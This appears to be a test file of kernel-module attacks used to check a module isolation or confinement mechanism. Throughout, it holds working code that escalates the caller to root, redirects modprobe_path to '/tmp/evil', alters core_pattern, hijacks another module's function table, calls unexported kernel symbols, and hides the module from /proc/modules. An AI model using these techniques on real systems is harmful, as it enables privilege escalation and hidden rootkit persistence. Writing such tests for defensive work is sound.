// SPDX-License-Identifier: Apache-2.0 OR GPL-2.0
// Attacks by what modules do all day: they write memory and call functions.
#include <linux/cred.h>
#include <linux/fs.h>
#include <linux/fs_struct.h>
#include <linux/jiffies.h>
#include <linux/mount.h>
#include "attack.h"

/* The caller becomes root by a write. It worked where its children are root's. */
int attack_cred_write(void)
{
	struct cred *c = (struct cred *)current_cred();

	c->uid.val = 0;
	c->suid.val = 0;
	c->euid.val = 0;
	c->fsuid.val = 0;
	return 0;
}

/* The same by the kernel's own functions, which are exported. */
int attack_cred_call(void)
{
	struct cred *c = prepare_kernel_cred(&init_task);

	return c ? commit_creds(c) : -ENOMEM;
}

/*
 * The kernel's own code writes for the module: root's helper program is another one from now on. It worked where
 * /proc/sys/kernel/modprobe says so.
 */
int attack_memcpy_gadget(void)
{
	unsigned long to = at.modprobe_path, n = 10;
	const char *from = "/tmp/evil";

	if (!to)
		return -ENOENT;
	/* A compiler would copy these few bytes itself. */
	asm volatile("call memcpy" : "+D"(to), "+S"(from), "+d"(n) : : "rax", "rcx", "r8", "r9", "r10", "r11", "memory", "cc");
	return 0;
}

/* The kernel's data, where it sees all memory once more: what is run for a core dump is no longer what root said. */
int attack_alias(void)
{
	if (!at.core_pattern)
		return -ENOENT;
	WRITE_ONCE(((char *)__va(__pa(at.core_pattern)))[12], 'x');
	return 0;
}

static int taken(void)
{
	return 666;
}

/* A table of functions of another module, in writable data: the module's function is called in the place of the other's. */
int attack_ops_pointer(void)
{
	WRITE_ONCE(victim_ops.call, taken);
	return 0;
}

/* The root file system writes directories through from now on: /proc/mounts says dirsync. */
int attack_superblock(void)
{
	struct super_block *s = current->fs->root.mnt->mnt_sb;

	WRITE_ONCE(s->s_flags, s->s_flags ^ SB_DIRSYNC);
	return 0;
}

/* A function that is not exported is called, and finds the address of another that is not either. */
int attack_unexported(void)
{
	if (!at.kallsyms_lookup_name)
		return -ENOENT;
	victim_tell(VICTIM_ADDRESS, call_at(at.kallsyms_lookup_name, (unsigned long)"victim_guarded", 0));
	return 0;
}

/* A byte of another module's data. */
int attack_foreign_data(void)
{
	WRITE_ONCE(victim_page[100], 1);
	return 0;
}

/* The module leaves the kernel's list, and /proc/modules with it. */
int attack_hide(void)
{
	struct list_head *l = &THIS_MODULE->list;

	WRITE_ONCE(l->next->prev, l->prev);
	WRITE_ONCE(l->prev->next, l->next);
	l->next = l;
	l->prev = l;
	return 0;
}

/* No attack on the kernel, but on who judges calls: each of them costs. It is to be survived. */
int attack_flood(void)
{
	unsigned long i;

	for (i = 0; i < flood_calls; i++)
		jiffies_to_msecs(i);
	victim_tell(VICTIM_CALLS, i);
	return 0;
}
